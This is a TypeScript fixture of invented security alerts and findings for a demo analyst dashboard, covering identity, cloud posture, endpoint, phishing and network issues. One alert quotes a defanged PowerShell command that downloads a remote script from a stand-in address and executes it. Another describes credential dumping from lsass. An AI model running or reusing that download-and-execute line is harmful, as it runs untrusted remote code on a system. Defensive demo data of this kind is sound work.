import type { IssueFields, IssueKind } from '../../shared/domain/issue'
import { HOUR_MS, MINUTE_MS } from '../../shared/time'

/** An issue of the sandbox workspace; `age` (ms) is how long ago it happened. */
export type DemoIssue = {
  readonly kind: IssueKind
  readonly fields: Partial<IssueFields> & { readonly name: string }
  readonly age: number
  /** Project of the sandbox in which it gets a ticket, if any. */
  readonly ticketIn?: 'SEC'
  readonly comment?: string
}

const h = HOUR_MS
const m = MINUTE_MS

/** Issues as an analyst's morning might show them; people and machines are invented. */
export const demoIssues: readonly DemoIssue[] = [
  {
    kind: 'alert',
    age: 8 * m,
    ticketIn: 'SEC',
    comment: 'Session revoked in the identity provider. Waiting for the user to call back.',
    fields: {
      name: 'Impossible travel: finance-admin signed in from two continents within 20 minutes',
      severity: 'critical',
      status: 'in-progress',
      category: 'Identity',
      labels: ['identity', 'T1078'],
      description:
        'Two successful sign-ins for **finance-admin**:\n\n| time (UTC) | country | client |\n| --- | --- | --- |\n| 08:31 | Norway | browser |\n| 08:49 | Brazil | legacy IMAP |\n\nThe second one used a protocol without a second factor.',
    },
  },
  {
    kind: 'finding',
    age: 25 * m,
    ticketIn: 'SEC',
    fields: {
      name: 'Network ACL allows ingress on admin ports 22 and 3389',
      severity: 'critical',
      category: 'Cloud posture',
      labels: ['aws', 'network'],
      description:
        'Several network ACLs accept connections on `22` and `3389` from any address.\n\n- acl-0a1f (eu-north-1)\n- acl-77c2 (eu-west-1)\n- acl-90be (us-east-1)',
    },
  },
  {
    kind: 'alert',
    age: 40 * m,
    ticketIn: 'SEC',
    comment: 'Memory image taken before isolation.',
    fields: {
      name: 'EDR: credential dumping on wks-0442 (lsass access)',
      severity: 'high',
      status: 'in-progress',
      category: 'Endpoint',
      labels: ['edr', 'tier1', 'T1003'],
      description:
        'The sensor saw a handle to `lsass.exe` with access `0x1410` from an unsigned binary.\n\n> Process tree: winword.exe → powershell.exe → rundl1.exe\n\nHost is isolated.',
    },
  },
  {
    kind: 'finding',
    age: 2 * h,
    ticketIn: 'SEC',
    fields: {
      name: 'Storage bucket customer-exports is public',
      severity: 'high',
      status: 'pending',
      category: 'Cloud posture',
      labels: ['aws', 'data'],
      description: 'Anonymous listing is possible. 41 objects, the newest from today.',
    },
  },
  {
    kind: 'incident',
    age: 3 * h,
    ticketIn: 'SEC',
    fields: {
      name: 'Phishing campaign: 38 mailboxes received a parcel notice',
      severity: 'high',
      status: 'in-progress',
      category: 'E-mail',
      labels: ['phishing', 'T1566'],
      description:
        '1. Messages removed from 36 mailboxes\n2. Two people clicked, passwords reset\n3. Domain blocked at the proxy',
    },
  },
  {
    kind: 'alert',
    age: 4 * h,
    fields: {
      name: 'Unusual OAuth consent: application asks for Files.Read.All',
      severity: 'high',
      category: 'Identity',
      labels: ['oauth'],
      description: 'Publisher is not verified. Consent was given by one person in Marketing.',
    },
  },
  {
    kind: 'finding',
    age: 6 * h,
    ticketIn: 'SEC',
    fields: {
      name: 'Outdated OpenSSL in image payments-api',
      severity: 'medium',
      category: 'Vulnerability',
      labels: ['container'],
      description: 'Fixed in the base image of last week. A rebuild is enough.',
    },
  },
  {
    kind: 'alert',
    age: 7 * h,
    fields: {
      name: 'Brute force against VPN gateway vpn-eu-2',
      severity: 'medium',
      status: 'resolved',
      resolution: 'true-positive',
      category: 'Network',
      labels: ['vpn', 'T1110'],
      description:
        '14,200 attempts from 61 addresses in one hour, none successful. Addresses blocked.',
    },
  },
  {
    kind: 'alert',
    age: 9 * h,
    fields: {
      name: 'Suspicious PowerShell download on srv-build-03',
      severity: 'medium',
      status: 'in-progress',
      category: 'Endpoint',
      labels: ['edr', 'T1059'],
      description:
        '```\niwr hxxp://203.0.113.9/a.ps1 | iex\n```\nThe build agent account was used.',
    },
  },
  {
    kind: 'finding',
    age: 11 * h,
    fields: {
      name: 'Secrets found in repository infra-terraform',
      severity: 'medium',
      category: 'Code',
      labels: ['secrets'],
      description: 'One access key, last used 40 days ago. Rotate, then rewrite history.',
    },
  },
  {
    kind: 'alert',
    age: 20 * h,
    fields: {
      name: 'New local administrator on build-07',
      severity: 'low',
      status: 'pending',
      category: 'Endpoint',
      description: 'Created by the imaging job; ticket with IT asked for.',
    },
  },
  {
    kind: 'alert',
    age: 23 * h,
    fields: {
      name: 'DNS query to a domain registered yesterday',
      severity: 'low',
      category: 'Network',
      description: 'Single query from a guest network client.',
    },
  },
  {
    kind: 'task',
    age: 26 * h,
    fields: {
      name: 'Certificate for the customer portal expires in 21 days',
      severity: 'informational',
      category: 'Operations',
      description: 'Renewal is automatic; check that it happened.',
    },
  },
  {
    kind: 'finding',
    age: 30 * h,
    fields: {
      name: 'Scanner coverage dropped below 95 %',
      severity: 'informational',
      category: 'Operations',
      description: '112 hosts have not reported for a week.',
    },
  },
]
